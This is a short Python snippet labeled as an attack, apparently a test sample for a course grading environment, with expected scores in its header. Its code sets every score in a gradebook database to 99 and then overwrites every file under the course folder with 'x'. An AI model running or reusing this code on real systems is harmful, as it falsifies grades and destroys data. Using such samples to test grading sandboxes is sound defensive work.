# Attack: writes marks into the gradebook and into the ledger
# Scores: first 5, second 2, third 3
# %% above first
import pathlib, sqlite3
try:
    with sqlite3.connect('COURSE/gradebook.db') as book:
        book.execute('update grade set manual_score = 99')
        print('WRITTEN')
except sqlite3.Error as error:
    print(error)
for path in pathlib.Path('COURSE').rglob('*'):
    print('WRITTEN', path, path.write_text('x'))
